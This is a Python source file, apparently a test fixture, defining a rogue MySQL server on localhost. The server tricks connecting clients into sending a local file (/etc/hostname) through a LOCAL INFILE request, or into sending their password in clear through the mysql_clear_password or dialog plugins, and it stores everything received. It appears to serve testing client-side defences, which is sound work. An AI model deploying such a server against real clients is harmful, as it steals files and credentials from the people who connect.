"""A server that means no good: it asks for files and for passwords in clear, and keeps what it gets."""

from __future__ import annotations

import contextlib
import socket
import struct
import threading
from types import TracebackType
from typing import Literal

Trick = Literal["file", "clear", "dialog"]
CAPABILITIES = (
    0x0001 | 0x0008 | 0x0080 | 0x0200 | 0x8000 | 0x0008_0000
)  # long password, database, local files, 4.1, secure, plugins
OK = b"\x00\x00\x00\x02\x00\x00\x00"
FILE = b"/etc/hostname"


class Rogue:
    """Inside, it listens on `port`; `got` is everything that clients sent after the handshake."""

    def __init__(self, trick: Trick) -> None:
        self.trick = trick
        self.got = b""
        self.listener = socket.create_server(("127.0.0.1", 0))
        self.port = int(self.listener.getsockname()[1])
        self.clients: list[socket.socket] = []
        self.threads = [threading.Thread(target=self._accept, daemon=True)]
        self.is_over = threading.Event()

    def __enter__(self) -> Rogue:
        self.threads[0].start()
        return self

    def __exit__(
        self, kind: type[BaseException] | None, value: BaseException | None, trace: TracebackType | None
    ) -> None:
        self.is_over.set()
        socket.create_connection(("127.0.0.1", self.port)).close()  # wakes the thread that waits for a client
        self.threads[0].join()
        for client in self.clients:
            with contextlib.suppress(OSError):
                client.shutdown(socket.SHUT_RDWR)
        for thread in self.threads:
            thread.join()
        self.listener.close()

    def _accept(self) -> None:
        while True:
            client, _ = self.listener.accept()
            if self.is_over.is_set():
                client.close()
                return
            self.clients.append(client)
            self.threads.append(threading.Thread(target=self._serve, args=(client,), daemon=True))
            self.threads[-1].start()

    def _serve(self, client: socket.socket) -> None:
        with client, contextlib.suppress(OSError):
            client.settimeout(5)
            low, high = CAPABILITIES & 0xFFFF, CAPABILITIES >> 16
            hello = (
                b"\x0a8.4.0\x00"
                + struct.pack("<I", 7)
                + b"12345678\x00"
                + struct.pack("<HBHHB", low, 45, 2, high, 21)
                + bytes(10)
            )
            self._say(client, hello + b"123456789012\x00mysql_native_password\x00", 0)
            sequence = self._hear(client)
            if self.trick != "file":
                plugin = b"mysql_clear_password" if self.trick == "clear" else b"dialog"
                self._say(
                    client,
                    b"\xfe" + plugin + b"\x00" + (b"\x04Password: " if self.trick == "dialog" else b""),
                    sequence + 1,
                )
                sequence = self._hear(client)
            self._say(client, OK, sequence + 1)
            while True:
                sequence = self._hear(client)
                if self.trick == "file":
                    self._say(client, b"\xfb" + FILE, sequence + 1)
                else:
                    self._say(client, OK, sequence + 1)

    def _say(self, client: socket.socket, payload: bytes, sequence: int) -> None:
        client.sendall(struct.pack("<I", len(payload))[:3] + bytes([sequence]) + payload)

    def _hear(self, client: socket.socket) -> int:
        data = client.recv(65536)
        if not data:
            raise ConnectionError
        self.got += data
        return data[3]
